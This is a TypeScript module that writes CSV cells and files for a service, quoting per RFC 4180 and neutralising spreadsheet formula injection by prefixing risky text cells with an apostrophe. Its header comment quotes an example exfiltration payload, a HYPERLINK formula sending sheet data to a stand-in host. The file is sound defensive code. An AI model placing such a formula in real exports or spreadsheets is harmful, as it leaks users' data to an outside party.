/**
 * The one CSV cell writer of the service (API answers and the import's --report file).
 *
 * RFC 4180: a cell is quoted when it holds a separator, a quote or a line break.
 *
 * Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with `=`, `+`,
 * `-` or `@` as a formula (`=HYPERLINK("http://evil.example/?leak="&A2,...)` sends the sheet's
 * data away when clicked), and tab, CR, LF or NUL before one of those can get it past a filter.
 * Such a text cell gets a leading `'`, which spreadsheets take as "this is text" and do not
 * show. Only text: a number is written as the number it is, so `-12.5` stays a negative number
 * and the figures stay numbers; a text that merely looks like a number (`-12`) is still text
 * and is neutralised like any other.
 */
const FORMULA_START = /^[=+\-@\t\r\n\0]/

export function csvCell(value: unknown): string {
  if (value === null || value === undefined) return ''
  let text = String(value)
  const isNumber = typeof value === 'number' || typeof value === 'bigint'
  if (!isNumber && FORMULA_START.test(text)) text = `'${text}`
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text
}

/** Flattens nested objects into dotted columns: {provisional: {completed}} -> provisional.completed. */
function flatten(row: Record<string, unknown>, prefix = '', out: Record<string, unknown> = {}): Record<string, unknown> {
  for (const [key, value] of Object.entries(row)) {
    const name = prefix ? `${prefix}.${key}` : key
    if (value !== null && typeof value === 'object' && !Array.isArray(value)) flatten(value as Record<string, unknown>, name, out)
    else out[name] = value
  }
  return out
}

export function toCsv(rows: Array<Record<string, unknown>>, columns?: string[]): string {
  const flat = rows.map((row) => flatten(row))
  const header = columns ?? [...new Set(flat.flatMap((row) => Object.keys(row)))]
  const lines = [header.map(csvCell).join(',')]
  for (const row of flat) lines.push(header.map((column) => csvCell(row[column])).join(','))
  return `${lines.join('\r\n')}\r\n`
}

/** `?format=csv` or `Accept: text/csv` asks for CSV. */
export function wantsCsv(format: string | undefined, accept: string | undefined): boolean {
  if (format !== undefined) return format === 'csv'
  return accept !== undefined && /\btext\/csv\b/.test(accept)
}
